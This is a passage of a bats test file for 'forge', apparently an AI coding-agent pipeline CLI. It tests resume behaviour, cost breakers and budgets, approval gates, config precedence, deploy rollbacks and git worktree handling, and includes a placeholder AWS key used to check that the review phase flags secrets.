	[[ $stderr == *"cannot make a temporary directory '$BATS_TEST_TMPDIR/no/such/dir/forge-implement-"* ]]
	[[ $stderr == *$'\n'"forge run: node 'implement' failed; once what failed is fixed, \`forge resume $T\` runs it again" ]]
	run -0 --separate-stderr forge resume "$T" </dev/null
	[ "$(forge status --json "$T" | jq -r .run.status)" = completed ]
}

@test "a test command whose program is not installed: the run fails at test (exit 5) saying what is missing; installed, forge resume runs the tests again and completes" {
	replay run-clean.jsonl
	mkdir .forge && echo '{"tools": {"test_command": "forge-no-such-runner check"}, "implement": {"validate": false}}' >.forge/config.json
	# (before: exit 4 at a gate whose yes deployed untested code and whose no ended the run)
	run -5 --separate-stderr forge run "add a mul operation" </dev/null
	T=$(last_trace)
	[[ $stderr == *"the tests could not run: 'forge-no-such-runner' was not found ("*"forge-no-such-runner: "*"not found): install it, then \`forge resume $T\`"* ]]
	[[ $stderr == *$'\n'"forge run: node 'test' failed; once what failed is fixed, \`forge resume $T\` runs it again"* ]]
	run -0 forge status --json "$T"
	jq -e '.run.status == "failed" and .state.phase == "test" and .state.status == "failed"
		and .state.tests.failures[0].classification == "environment" and (.state | has("deployment") | not)' <<<"$output"
	run -0 sqlite3 "$FORGE_DB" "select count(*) from gates where trace_id = '$T'"
	assert_output 0
	run -0 forge events replay "$T"
	jq -s -e '[.[] | select(.type == "test.could_not_run") | .payload | [.exit_code, .missing]] == [[127, "forge-no-such-runner"]]' <<<"$output"
	# installed (a tiny script on PATH): the resume runs test again (not implement), and the run completes
	mkdir -p "$BATS_TEST_TMPDIR/tools"
	printf '#!/bin/sh\necho 1..1\necho "ok 1 - $1 ran"\n' >"$BATS_TEST_TMPDIR/tools/forge-no-such-runner"
	chmod +x "$BATS_TEST_TMPDIR/tools/forge-no-such-runner"
	PATH="$BATS_TEST_TMPDIR/tools:$PATH" run -0 --separate-stderr forge resume "$T" </dev/null
	run -0 forge status --json "$T"
	jq -e '.run.status == "completed" and .state.tests.summary == {"total": 1, "passed": 1, "failed": 0, "skipped": 0, "flaky": 0}
		and .state.deployment.status == "healthy"' <<<"$output"
	run -0 forge events replay "$T"
	jq -s -e '[.[] | select(.type == "phase.started") | .phase] | .[-3:] == ["test", "test", "deploy"]' <<<"$output"
}

@test "-q: a phase that failed on its provider is said on one line with its reason, as a breaker's stop is" {
	# (before: "forge: node 'plan' failed; once what failed is fixed, ..."
	# and never why: -q silences the phase's own "failed: ..." line)
	echo '{"phase":"plan","error":{"kind":"auth","message":"the key was refused"}}' >"$BATS_TEST_TMPDIR/c.jsonl"
	export FORGE_PROVIDER=replay FORGE_CASSETTE="$BATS_TEST_TMPDIR/c.jsonl"
	run -5 --separate-stderr forge run -q "add a mul operation" </dev/null
	T=$(last_trace)
	[ -z "$output" ]
	[ "${#stderr_lines[@]}" -eq 1 ]
	[[ $stderr == "forge run: node 'plan' failed: "*"the key was refused"*"; once what failed is fixed, \`forge resume $T\` runs it again" ]]
	[[ $stderr != *"plan failed: "* ]]
	# without -q the phase's own line says it, and this line as before
	run -5 --separate-stderr forge run "add a mul operation" </dev/null
	[[ $stderr == *"the key was refused"* ]]
	[[ $stderr == *$'\n'"forge run: node 'plan' failed; once what failed is fixed, \`forge resume $(last_trace)\` runs it again"* ]]
}

@test "-q: a run that ends rejected (a deploy rolled back) says so on one line with its reason" {
	replay run-clean.jsonl
	echo '{"deploy":{"strategy":"command"},"tools":{"deploy_command":"exit 3","rollback_command":"true"}}' \
		>"$BATS_TEST_TMPDIR/roll.json"
	# (before: exit 1 and nothing at all on stdout or stderr)
	run -1 --separate-stderr forge run -q --config "$BATS_TEST_TMPDIR/roll.json" "add a mul operation" </dev/null
	T=$(last_trace)
	[ -z "$output" ]
	[ "${#stderr_lines[@]}" -eq 1 ] || { echo "$stderr"; false; }
	[[ $stderr == "forge run: run $T was rejected: deploy said no: the deploy command failed at 100%: 'exit 3' exited with status 3; rolled back; next: \`forge run 'add a mul operation'\` ("*"forge show $T"* ]] || { echo "$stderr"; false; }
	# a resume -q of it says its own one line, not a second
	run -1 --separate-stderr forge resume -q "$T" </dev/null
	[ "${#stderr_lines[@]}" -eq 1 ] || { echo "$stderr"; false; }
	[[ $stderr == "forge resume: run $T had already ended: "* ]]
	# without -q the summary says it, as before
	run -1 --separate-stderr forge run --config "$BATS_TEST_TMPDIR/roll.json" "add a mul operation" </dev/null
	[[ $stderr != *"was rejected: "* ]]
	[[ $output == *"Run $(last_trace) rejected"* ]] || { echo "$output"; false; }
}

@test "a resume given another --config still deploys as the run was started, and says so; a rolled-back deploy resumed says what happened and what to do" {
	replay run-clean.jsonl
	echo '{"deploy":{"environment":"production","strategy":"command"},"tools":{"deploy_command":"exit 3","rollback_command":"true"}}' \
		>"$BATS_TEST_TMPDIR/prod.json"
	echo '{"deploy":{"environment":"production","strategy":"branch"}}' >"$BATS_TEST_TMPDIR/other.json"
	run -4 --separate-stderr forge run -q --config "$BATS_TEST_TMPDIR/prod.json" "add a mul operation" </dev/null
	T=$(last_trace)
	run -0 forge gate approve "$(forge gate list --json | jq -r .id)"
	# the run's command deploy runs (and fails), not the branch deploy the resume's file names
	run -1 --separate-stderr forge resume --config "$BATS_TEST_TMPDIR/other.json" "$T" </dev/null
	[[ "$stderr" == *"deploy.strategy (the run: \"command\"; here: \"branch\") (a resume"*"start a new run"* ]] || { echo "$stderr"; false; }
	[[ "$stderr" == *"'exit 3' exited with status 3; rolled back"* ]]
	run -0 forge status --json "$T"
	jq -e '.run.status == "failed" and .state.deployment.status == "rolled_back"
		and .state.deployment.strategy == "command"' <<<"$output"
	# (before: only "resuming run … after deploy (rejected)", exit 1)
	run -1 --separate-stderr forge resume "$T" </dev/null
	[[ "$stderr" == *"forge resume: run $T had already ended: its deploy to production was rolled back (the deploy command failed at 100%: 'exit 3' exited with status 3; rolled back), and a resume does not deploy it again. See what happened with \`forge show $T\`; fix the cause, then start the task again with \`forge run\`"* ]] || { echo "$stderr"; false; }
	# said while the deploy was to come, not after
	[[ "$stderr" != *"deploys with the settings"* ]]
	[ "$(git -C "$REPO" rev-parse main)" = "$BASE" ]
}

@test "--config <(…) (a pipe, read once): the phases get what it held, and the run deploys as it says" {
	replay run-clean.jsonl
	own_tmpdir
	# (before: "forge-plan: cannot open '/dev/fd/63'", the run failed at its first phase, exit 5)
	run -0 --separate-stderr bash -c 'forge run -q --config <(echo "{\"deploy\":{\"strategy\":\"merge\"}}") "add a mul operation" </dev/null'
	T=$(last_trace)
	run -0 forge status --json "$T"
	jq -e '.run.status == "completed" and .state.deployment.strategy == "merge"' <<<"$output"
	[ "$(git -C "$REPO" rev-parse main)" = "$(git -C "$REPO" rev-parse "forge/$T")" ]
	# its private copy is gone with the run
	[ -z "$(find "$TMPDIR" -maxdepth 1 -name 'forge-config-*')" ]
}

@test "a merge deploy the checkout refused, resumed: stderr says forge merge lands it, as the summary's next line does" {
	replay run-clean.jsonl
	echo '{"deploy":{"strategy":"merge"}}' >"$BATS_TEST_TMPDIR/merge.json"
	echo "# a local edit" >>Makefile
	run -1 --separate-stderr forge run -q --config "$BATS_TEST_TMPDIR/merge.json" "add a mul operation" </dev/null
	T=$(last_trace)
	run -0 forge status --json "$T"
	jq -e '.run.status == "failed" and .state.deployment.strategy == "merge"
		and (.state.deployment.reason | test("uncommitted changes to tracked files"))' <<<"$output"
	# (before: "fix the cause, then start the task again with `forge run`",
	# while the summary's next line said `forge merge`)
	run -1 --separate-stderr forge resume "$T" </dev/null
	[[ "$stderr" == *"forge resume: run $T had already ended: its deploy to staging was refused ("*"), and a resume does not deploy it again. Its change passed review and tests: \`forge merge $T\` lands it once the cause is fixed"* ]] || { echo "$stderr"; false; }
	[[ "$stderr" != *"start the task again"* ]]
	assert_line "  next      forge merge $T"
	git checkout -q Makefile
	run -0 forge merge "$T"
	[ "$(git -C "$REPO" rev-parse main)" = "$(git -C "$REPO" rev-parse "forge/$T")" ]
}

@test "--auto-approve passes the architecture gate (by flag) without stopping" {
	replay run-highrisk.jsonl
	run -0 --separate-stderr forge run --auto-approve --config "$CONFIGS/high-risk.json" "add a mul operation" </dev/null
	T=$(last_trace)
	run -0 events_of "$T" gate.approved
	jq -e '.gate == "architecture_approval" and .by == "flag"' <<<"$output"
	run -0 forge gate list --all --json
	jq -e '.status == "approved" and .decided_by == "flag"' <<<"$output"
	[ "$(transitions "$T" | grep -c paused)" -eq 0 ]
}

@test "a cost breaker trips before implement: exit 3, breaker.tripped, the run failed" {
	replay run-clean.jsonl
	run -3 --separate-stderr forge run --config "$CONFIGS/breaker.json" "add a mul operation" </dev/null
	[[ "$stderr" == *"breaker cost_per_run tripped"*"(limit per run \$0.015)"* ]]
	T=$(last_trace)
	run -0 events_of "$T" breaker.tripped
	jq -e '.breaker == "cost_per_run"' <<<"$output"
	run -0 forge status --json "$T"
	jq -e '.run.status == "failed" and .state.plan != null and .state.changes == null' <<<"$output"
	[ "$(transitions "$T" | tail -n 1)" = "planning>failed" ]
	# a failed run resumes from its checkpoint, and the breaker trips again
	run -3 --separate-stderr forge resume --config "$CONFIGS/breaker.json" "$T" </dev/null
	[[ "$stderr" == *"breaker cost_per_run tripped"* ]]
}

@test "--json: the final state says how the run ended: tripped (a breaker), escalated (a gate waits), not the last phase's ok" {
	# (before: the last line was the plan's checkpoint, "status":"ok", for
	# a run that exited 3 or 4: a consumer of the final state saw a healthy run)
	replay run-clean.jsonl
	run -3 --separate-stderr forge run --json --config "$CONFIGS/breaker.json" "add a mul operation" </dev/null
	tail -n 1 <<<"$output" | jq -e '.kind == "state" and .phase == "plan" and .status == "tripped"'
	T=$(tail -n 1 <<<"$output" | jq -r .trace_id)
	# the checkpoint a resume goes on from is the plan's own
	run -0 forge status --json "$T"
	jq -e '.state.status == "ok"' <<<"$output"
	run -3 --separate-stderr forge resume --json --config "$CONFIGS/breaker.json" "$T" </dev/null
	tail -n 1 <<<"$output" | jq -e '.kind == "state" and .status == "tripped"'
	run -3 --separate-stderr forge run --json --budget 0.01 "add a mul operation" </dev/null
	tail -n 1 <<<"$output" | jq -e '.kind == "state" and .status == "tripped"'
	replay run-highrisk.jsonl
	run -4 --separate-stderr forge run --json --config "$CONFIGS/high-risk.json" "add a mul operation" </dev/null
	tail -n 1 <<<"$output" | jq -e '.kind == "state" and .phase == "plan" and .status == "escalated"'
}

@test "forge resume goes on under the run's --config, its limits too; a resume's --config goes over it, and stderr names the key" {
	replay run-clean.jsonl
	run -3 --separate-stderr forge run --config "$CONFIGS/breaker.json" "add a mul operation" </dev/null
	T=$(last_trace)
	# the advice as printed, without --config (before: the run finished under
	# the default $50 limit, exit 0, nothing said)
	run -3 --separate-stderr forge resume "$T" </dev/null
	[[ "$stderr" == *"breaker cost_per_run tripped"*"(limit per run \$0.015)"* ]]
	run -0 forge status --json "$T"
	jq -e '.run.status == "failed"' <<<"$output"
	# what the resume is given goes over the run's, and stderr says so
	echo '{"safety":{"cost":{"per_run":5}}}' >"$BATS_TEST_TMPDIR/loose.json"
	run -0 --separate-stderr forge resume --config "$BATS_TEST_TMPDIR/loose.json" "$T" </dev/null
	[[ "$stderr" == *"differs from the run's in safety.cost.per_run (the run: 0.015; here: 5)"* ]]
	run -0 forge status --json "$T"
	jq -e '.run.status == "completed"' <<<"$output"
}

@test "forge resume does not take trust_project from the run's record: the repository may not loosen your limits on a resume either" {
	replay run-clean.jsonl
	mkdir -p "$XDG_CONFIG_HOME/forge" .forge
	echo '{"safety":{"cost":{"per_run":0.015}}}' >"$XDG_CONFIG_HOME/forge/config.json"
	echo '{"safety":{"cost":{"per_run":100}}}' >.forge/config.json
	echo '{"trust_project":true}' >"$BATS_TEST_TMPDIR/trust.json"
	run -3 --separate-stderr forge run --budget 0.015 --config "$BATS_TEST_TMPDIR/trust.json" "add a mul operation" </dev/null
	T=$(last_trace)
	run -0 --separate-stderr events_of "$T" run.started
	jq -e '.config_layer.trust_project == true' <<<"$output"
	# resumed without it: your per_run (0.015) holds; the recorded
	# trust_project does not let the repository's 100 through
	run -3 --separate-stderr forge resume --budget 5 "$T" </dev/null
	[[ "$stderr" == *"breaker cost_per_run tripped"*"(limit per run \$0.015)"* ]]
	[[ "$stderr" == *"trust_project (the run: true; here: false)"* ]]
}

@test "safety.cost.per_day limits what the model calls of the local day cost, every run's, whenever the run started" {
	# (before: the cost of the runs *started* that day, by their UTC date: a
	# run started yesterday and resumed today spent today unseen, hunt19 #8)
	# a zone where it is now about noon: local midnight, yesterday's and
	# today's, is hours away while the test runs (at UTC+0 the local day
	# would be the UTC date, hiding which of the two the breaker reads)
	local h off
	h=$(date -u +%-H)
	off=$(((12 - h + 24) % 24))
	[ "$off" -le 14 ] || off=$((off - 24))
	[ "$off" -ne 0 ] || off=1	# (an hour past noon: as far, and not UTC)
	export TZ="XYZ$((-off))"
	# another run's model calls: one a second before today began, one as it began
	ev() {
		printf '{"kind":"event","id":"%s","trace_id":"01JDB2OTHERRUNAAAAAAAAAAAA","ts":"%s","source":"test","phase":"plan","type":"llm.called","payload":{},"cost":{"usd":%s,"tokens":1}}\n' \
			"$1" "$(date -u -d "@$(date -d "$2" +%s)" +%Y-%m-%dT%H:%M:%S.000Z)" "$3"
	}
	{ ev 01JDB3DAYAAAAAAAAAAAAAAAA1 'yesterday 23:59:59' 5; ev 01JDB3DAYAAAAAAAAAAAAAAAA2 'today 00:00:00' 0.6; } |
		forge-events store >/dev/null
	echo '{"safety":{"cost":{"per_day":1}}}' >"$BATS_TEST_TMPDIR/day1.json"
	echo '{"safety":{"cost":{"per_day":0.66}}}' >"$BATS_TEST_TMPDIR/day066.json"
	replay run-clean.jsonl
	# yesterday's $5 is not today's: $0.6 + this run's $0.0694 stay under $1
	run -0 --separate-stderr forge run --config "$BATS_TEST_TMPDIR/day1.json" "add a mul operation" </dev/null
	# today: $0.6 + that run's $0.0694, whatever day the runs started
	run -3 --separate-stderr forge run --config "$BATS_TEST_TMPDIR/day066.json" "add a mul operation" </dev/null
	[[ "$stderr" == *"breaker cost_per_day tripped: today's model calls have cost \$0.6694 (limit per day \$0.66)"* ]]
}

@test "--budget is a limit: the phase that reaches it trips (exit 3), resume trips again until --budget gives more" {
	# (before: --budget 0.01 fed only the cost_overrun gate, passed by itself
	# at level 4, and the run spent $0.0694 and completed)
	replay run-clean.jsonl
	run -3 --separate-stderr forge run --budget 0.03 "add a mul operation" </dev/null
	T=$(last_trace)
	# plan cost $0.01905; implement's agent stopped at what remained ($0.01095),
	# and the message names the limit
	[[ "$stderr" == *"cost \$0.0144 reached the limit of \$0.0110 (what the run's budget (--budget) leaves)"* ]]
	run -0 forge status --json "$T"
	jq -e '.run.status == "failed" and .state.status == "tripped" and .state.budget.usd == 0.03' <<<"$output"
	# a spent budget makes no more calls: not the agent's reflection on the
	# trip (hunt19 #2)
	run -0 events_of "$T" agent.reflection_skipped
	assert_line '{"outcome":"breaker","reason":"budget spent (the phase'"'"'s cost limit is reached)"}'
	run -0 sqlite3 "$FORGE_DB" "select count(*) from llm_calls where trace_id = '$T' and phase = 'implement-fast'"
	assert_output 0
	# the next command gives it more (before: a plain forge resume, which trips at once)
	run -0 forge show "$T"
	assert_line --regexp "^next +forge resume --budget USD $T\$"
	# overspent: nothing more starts, and the way on is named
	run -3 --separate-stderr forge resume "$T" </dev/null
	[[ "$stderr" == *"breaker budget tripped: the run has cost \$0.0335, its budget is \$0.03 (forge resume --budget USD gives it more)"* ]]
	run -0 events_of "$T" breaker.tripped
	jq -e -s 'map(select(.breaker == "budget")) | length == 1' <<<"$output"
	run -0 --separate-stderr forge resume --budget 1 "$T" </dev/null
	run -0 forge status --json "$T"
	jq -e '.run.status == "completed" and .state.budget.usd == 1 and
		.state.budget.remaining_usd == 1 - .state.cost.usd' <<<"$output"
}

@test "safety.cost.per_day and per_run bound a phase's agent as the budget does: it stops at what they leave" {
	# (before: they were only checked between phases; implement spent $0.05
	# more before the breaker looked, the run $0.0694 under a $0.03 cap, hunt56 #2)
	echo '{"safety":{"cost":{"per_day":0.03}}}' >"$BATS_TEST_TMPDIR/day.json"
	echo '{"safety":{"cost":{"per_run":0.03}}}' >"$BATS_TEST_TMPDIR/run.json"
	replay run-clean.jsonl
	# plan cost $0.01905; implement's agent stopped at what remained ($0.01095)
	run -3 --separate-stderr forge run --config "$BATS_TEST_TMPDIR/day.json" "add a mul operation" </dev/null
	[[ "$stderr" == *"cost \$0.0144 reached the limit of \$0.0110 (this phase's share of what the run's budget, safety.cost.per_run and safety.cost.per_day leave)"* ]]
	T=$(last_trace)
	run -0 sqlite3 "$FORGE_DB" "select round(sum(cost_usd), 4) from llm_calls where trace_id = '$T'"
	assert_output 0.0335
	# today's $0.0335 is not this run's: per_run alone limits it
	run -3 --separate-stderr forge run --config "$BATS_TEST_TMPDIR/run.json" "add a mul operation" </dev/null
	[[ "$stderr" == *"cost \$0.0144 reached the limit of \$0.0110 (this phase's share of what the run's budget, safety.cost.per_run and safety.cost.per_day leave)"* ]]
	T=$(last_trace)
	run -0 forge status --json "$T"
	jq -e '.run.status == "failed" and .state.status == "tripped" and .state.cost.usd < 0.034' <<<"$output"
}

@test "nodes that run at the same time share the budget: two plan nodes under --budget 0.5 spend \$0.60, not \$1.08" {
	# (before: each node's agent had the whole remaining budget, and the
	# run spent it twice, hunt56 #1.)  Every answer is a grep costing $0.06
	# (20000 input tokens); each node gets half of $0.50 and stops at the
	# call that reaches it: 5 calls, $0.30 each.
	local c="$BATS_TEST_TMPDIR/greps.jsonl" p="$BATS_TEST_TMPDIR/par.json"
	jq -nc 'range(20) as $i | {phase: "plan", response: {tool_calls: [{id: "g\($i)", name: "grep",
		input: {pattern: "calc_\($i)"}}], usage: {input_tokens: 20000, output_tokens: 0},
		model: "claude-sonnet-4-5"}}' >"$c"
	echo '{"pipeline":"par","version":1,"nodes":[{"id":"p1","phase":"plan"},{"id":"p2","phase":"plan","result_key":"plan2"}]}' >"$p"
	export FORGE_PROVIDER=replay FORGE_CASSETTE="$c"
	run -3 --separate-stderr forge run --pipeline "$p" --jobs 2 --budget 0.5 "add a mul operation" </dev/null
	[[ "$stderr" == *"[p1] forge-plan: tripped: cost \$0.3000 reached the limit of \$0.2500 (this phase's share of what the run's budget, safety.cost.per_run and safety.cost.per_day leave)"* ]]
	[[ "$stderr" == *"[p2] forge-plan: tripped: cost \$0.3000 reached the limit of \$0.2500"* ]]
	T=$(last_trace)
	run -0 sqlite3 "$FORGE_DB" "select count(*), round(sum(cost_usd), 4) from llm_calls where trace_id = '$T'"
	assert_output '10|0.6'
	# one node alone has the whole budget
	run -3 --separate-stderr forge run --pipeline "$p" --jobs 1 --budget 0.5 "add a mul operation" </dev/null
	[[ "$stderr" == *"forge-plan: tripped: cost \$0.5400 reached the limit of \$0.5000"* ]]
}

@test "a budget the plan overspent: no reflection call, the agent's nor the run's (fired by the spend); the breaker trips" {
	replay run-clean.jsonl
	run -3 --separate-stderr forge run --budget 0.01 "add a mul operation" </dev/null
	T=$(last_trace)
	[[ "$stderr" == *"breaker budget tripped: the run has cost \$0.0191, its budget is \$0.01"* ]]
	run -0 events_of "$T" agent.reflection_skipped
	assert_output '{"outcome":"success","reason":"budget spent (the phase'"'"'s cost limit is reached)"}'
	run -0 events_of "$T" run.reflection_skipped
	assert_output '{"trigger":">50% of budget","phase":"plan","reason":"budget spent (the run'"'"'s budget of $0.0100: $0.0191 spent)"}'
	run -0 sqlite3 "$FORGE_DB" "select group_concat(phase) from llm_calls where trace_id = '$T'"
	assert_output plan,plan,plan
}

@test "an overspent budget leaves a phase nothing, not no limit: its agent stops before its first call" {
	# a state whose budget is spent (remaining < 0), through forge-implement alone
	replay run-clean.jsonl
	forge run --dry-run --json "add a mul operation" </dev/null >/dev/null
	T=$(last_trace)
	state=$(forge status --json "$T" | jq -c --arg r "$REPO" '.state | .budget = {usd: 0.01, remaining_usd: -0.0091}')
	run -3 --separate-stderr forge-implement <<<"$state"
	[[ "$stderr" == *"reached the limit of \$0.0000"* ]]
	# nothing was spent: the state's cost is the plan's
	jq -e -s --argjson in "$state" 'map(select(.kind == "state")) | last |
		.status == "tripped" and .cost == $in.cost' <<<"$output"
}

@test "--dry-run runs only the plan" {
	replay run-clean.jsonl
	run -0 --separate-stderr forge run --dry-run --json "add a mul operation" </dev/null
	# the plan's JSON alone (edges.bats has the rest of the dry run)
	[ "${#lines[@]}" -eq 1 ]
	jq -e '(.tasks | length) == 2 and .risk.level == "low"' <<<"$output"
	T=$(last_trace)
	run -0 transitions "$T"
	assert_output "$(printf '%s\n' idle\>planning planning\>completed)"
	# no branch was made
	[ -z "$(git -C "$REPO" branch --list "forge/$T")" ]
}

@test "--phases plan,implement stops after implement" {
	replay run-clean.jsonl
	run -0 --separate-stderr forge run --phases plan,implement --json "add a mul operation" </dev/null
	tail -n 1 <<<"$output" | jq -e '.phase == "implement" and .changes.commit != null and .review == null'
	T=$(last_trace)
	[ "$(transitions "$T" | tail -n 1)" = "implementing>completed" ]
	run -0 branch_log "$T"
	assert_output "forge: add a mul operation (attempt 1)"
}

@test "a repository with submodules or a filter driver (git-lfs): the run says what its worktree lacks" {
	replay run-clean.jsonl
	lib="$BATS_TEST_TMPDIR/lib"
	git init -q -b main "$lib" && echo 'rules' >"$lib/rules.mk"
	git -C "$lib" add -A && git -C "$lib" commit -q -m lib
	git -c protocol.file.allow=always submodule -q add "$lib" vendor/lib
	git config filter.lfs.clean 'git-lfs clean -- %f'
	git config filter.lfs.smudge 'git-lfs smudge -- %f'
	echo '*.bin filter=lfs diff=lfs merge=lfs -text' >.gitattributes
	git add -A && git commit -q -m "a submodule and lfs"
	run -0 --separate-stderr forge run --phases plan "add a mul operation" </dev/null
	# (before, nothing said so: the worktree's vendor/lib was empty, LFS files were pointers)
	[[ $stderr == *"forge run: warning: submodules are not checked out in the run's worktree (vendor/lib)"* ]]
	[[ $stderr == *"forge run: warning: the git filter 'lfs' (.gitattributes) does not run in the run's worktree"* ]]
	run -0 forge events replay "$(last_trace)"
	[ "$(jq -s '[.[] | select(.type == "run.worktree_limits") | .payload.notes | length] | add' <<<"$output")" -eq 2 ]
	# nothing to say for a plain repository
	calc_repo "$BATS_TEST_TMPDIR/plain" && cd "$BATS_TEST_TMPDIR/plain"
	run --separate-stderr forge run --phases plan "add a mul operation" </dev/null
	echo "$stderr"
	[ "$status" -eq 0 ]
	[[ $stderr != *"warning"* ]]
}

@test "a submodule committed without .gitmodules (a gitlink, git add of a repository): forge run says what its worktree lacks" {
	replay run-clean.jsonl
	mkdir -p vendor/foo
	git -C vendor/foo init -q -b main && echo 'int foo;' >vendor/foo/foo.c
	git -C vendor/foo add -A && git -C vendor/foo commit -q -m foo
	git add vendor/foo 2>/dev/null && git commit -q -m "vendor foo"
	[ ! -e .gitmodules ]
	run -0 --separate-stderr forge run --phases plan "add a mul operation" </dev/null
	# (before: only a .gitmodules entry was seen: nothing said, and the agent's edits there were dropped)
	[[ $stderr == *"forge run: warning: submodules are not checked out in the run's worktree (vendor/foo): what needs them fails there, and the agent's changes inside them are not committed"* ]]
	run -0 forge events replay "$(last_trace)"
	jq -s -e '[.[] | select(.type == "run.worktree_limits") | .payload.notes[]] | length == 1' <<<"$output"
}

@test "deploy.strategy merge on a detached HEAD: refused before anything is made (exit 2, saying what to do); with --base the run merges there" {
	replay run-clean.jsonl
	echo '{"deploy":{"strategy":"merge"}}' >"$BATS_TEST_TMPDIR/merge.json"
	git checkout -q --detach
	# (before: every phase ran, paid for, and the deploy failed: "HEAD of …
	# is not on a branch: name the base branch (task.base_ref)", exit 5)
	run -2 --separate-stderr forge run --config "$BATS_TEST_TMPDIR/merge.json" "add a mul operation" </dev/null
	assert_equal "$stderr" "forge run: deploy.strategy is merge, which fast-forwards the branch the run starts from, but '$REPO' is not on a branch (detached HEAD); switch to that branch (git switch BRANCH) or name it with --base BRANCH; nothing was started"
	assert_equal "$(forge history --json)" ""
	assert_equal "$(git branch --list 'forge/*')" ""
	# a dry run deploys nothing: it is not refused
	run -0 --separate-stderr forge run --dry-run --config "$BATS_TEST_TMPDIR/merge.json" "add a mul operation" </dev/null
	# the branch named: the run merges into it
	run -0 --separate-stderr forge run --config "$BATS_TEST_TMPDIR/merge.json" --base main "add a mul operation" </dev/null
	T=$(last_trace)
	assert_equal "$(git rev-parse main)" "$(git rev-parse "forge/$T")"
}

@test "in a linked worktree of the person's (git worktree add): the run starts from its HEAD, merges into its branch" {
	replay run-clean.jsonl
	git worktree add -q -b feature "$BATS_TEST_TMPDIR/feat"
	cd "$BATS_TEST_TMPDIR/feat"
	echo "FEATURE WORK" >>README.md && git commit -q -am "feature work"
	feature=$(git rev-parse HEAD)
	echo "/* not committed */" >>calc.c
	run -0 --separate-stderr forge run "add a mul operation" </dev/null
	# (before: the main checkout's HEAD, its dirty state and its branch)
	[[ $stderr == *"forge run: warning: the checkout has uncommitted changes to tracked files"* ]]
	T=$(last_trace)
	run -0 forge status --json "$T"
	jq -e --arg f "$feature" '.state.task.base_commit == $f and .state.task.base_branch == "feature"' <<<"$output"
	[ -d "$(run_worktree "$T")" ]        # .forge stays in the main working tree
	git checkout -q calc.c
	run -0 --separate-stderr forge merge "$T"
	[[ $output == "merged forge/$T into feature (fast-forward) at "* ]]
	[ "$(git rev-parse feature)" = "$(git rev-parse "forge/$T")" ]
	[ "$(git -C "$REPO" rev-parse main)" != "$(git rev-parse feature)" ]
	grep -q calc_mul calc.c
	# a single phase there reviews that worktree's staged change
	echo 'AWS_SECRET_ACCESS_KEY="wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"' >creds.sh && git add creds.sh
	run -1 --separate-stderr forge-review --base main --no-input
	tail -n 1 <<<"$output" | jq -e '[.review.findings[].file] | index("creds.sh") != null'
}

@test "in a linked worktree of a bare repository, or of a --separate-git-dir one: that checkout is the root (.forge, config, the run's worktree)" {
	replay run-clean.jsonl
	# git clone --bare; git worktree add: no main working tree anywhere
	git clone -q --bare "$REPO" "$BATS_TEST_TMPDIR/proj/repo.git"
	git -C "$BATS_TEST_TMPDIR/proj/repo.git" worktree add -q "$BATS_TEST_TMPDIR/proj/main" main
	cd "$BATS_TEST_TMPDIR/proj/main"
	mkdir .forge && echo '{"tools": {"test_command": "make check && echo CONFIGURED"}}' >.forge/config.json
	run -0 --separate-stderr forge run "add a mul operation" </dev/null
	# (before: .forge, the run's worktree and its branch beside repo.git, then
	# forge-plan "'…/proj' is not in a git repository", exit 5)
	T=$(last_trace)
	[ "$(ls -A "$BATS_TEST_TMPDIR/proj")" = "$(printf 'main\nrepo.git')" ]
	# the runs' worktrees in a runs dir of this checkout's own, which names it
	WT=$(run_worktree "$T" .)
	[ -d "$WT" ]
	[ "$(dirname "$(dirname "$WT")")" = "$FORGE_WORKTREES" ]
	[ "$(cat "$(dirname "$WT")/root")" = "$PWD" ]
	[ "$(git -C "$WT" rev-parse --git-common-dir)" = "$BATS_TEST_TMPDIR/proj/repo.git" ]
	run -0 forge status --json "$T"
	jq -e --arg r "$PWD" '.run.status == "completed" and .state.task.repo == $r' <<<"$output"
	run -0 forge events replay "$T"
	jq -s -e '[.[] | select(.type == "test.started") | .payload.source] == ["config"]' <<<"$output"
	# from inside the run's worktree the root is still this checkout
	(cd "$WT" && forge status --json "$T") | jq -e --arg t "$T" '.run.trace_id == $t'
	run -0 --separate-stderr forge merge "$T"
	[[ $output == "merged forge/$T into main (fast-forward) at "* ]]
	grep -q calc_mul calc.c
	run -0 --separate-stderr forge gc
	[ ! -e "$WT" ]
	# --separate-git-dir: its linked worktree (its main working tree no file names)
	mkdir "$BATS_TEST_TMPDIR/gitdirs"
	git init -q -b main --separate-git-dir "$BATS_TEST_TMPDIR/gitdirs/sep.git" "$BATS_TEST_TMPDIR/sep"
	cp -r "$FORGE_ROOT/tests/fixtures/repos/calc/." "$BATS_TEST_TMPDIR/sep"
	git -C "$BATS_TEST_TMPDIR/sep" add -A && git -C "$BATS_TEST_TMPDIR/sep" commit -q -m calc
	git -C "$BATS_TEST_TMPDIR/sep" worktree add -q -b other "$BATS_TEST_TMPDIR/sepwt"
	cd "$BATS_TEST_TMPDIR/sepwt"
	run -0 --separate-stderr forge run "add a mul operation" </dev/null
	T=$(last_trace)
	[ "$(ls -A "$BATS_TEST_TMPDIR/gitdirs")" = sep.git ]
	WT=$(run_worktree "$T" .)
	[ "$(cat "$(dirname "$WT")/root")" = "$PWD" ]
	[ "$(git -C "$WT" rev-parse --abbrev-ref HEAD)" = "forge/$T" ]
	(cd "$WT" && forge status --json "$T") | jq -e --arg t "$T" '.run.trace_id == $t'
	run -0 forge status --json "$T"
	jq -e --arg r "$PWD" '.run.status == "completed" and .state.task.repo == $r and .state.task.base_branch == "other"' <<<"$output"
}

@test "a run begun in the checkout's .forge/worktrees (an older Forge's place, or no state directory) is resumed, shown and removed there; a new run's worktree is out of the checkout" {
	replay run-highrisk.jsonl
	# no FORGE_WORKTREES, XDG_STATE_HOME nor absolute HOME: the legacy place
	run -4 --separate-stderr env -u FORGE_WORKTREES -u XDG_STATE_HOME HOME=relative \
		forge run --config "$CONFIGS/high-risk.json" "add a mul operation" </dev/null
	T=$(last_trace)
	[ -f "$REPO/.forge/worktrees/$T/calc.c" ]
	[ "$(run_worktree "$T")" = "$REPO/.forge/worktrees/$T" ]
	run -0 --separate-stderr forge show "$T"
	# a run begun now (FORGE_WORKTREES set) is made out of the checkout
	G=$(forge gate list --json | jq -r .id)
	run -4 --separate-stderr forge run --config "$CONFIGS/high-risk.json" "add a mul operation" </dev/null
	T2=$(last_trace)
	[ "$(run_worktree "$T2")" = "$(runs_dir)/$T2" ]
	[ -d "$(runs_dir)/$T2" ] && [ ! -e "$REPO/.forge/worktrees/$T2" ]
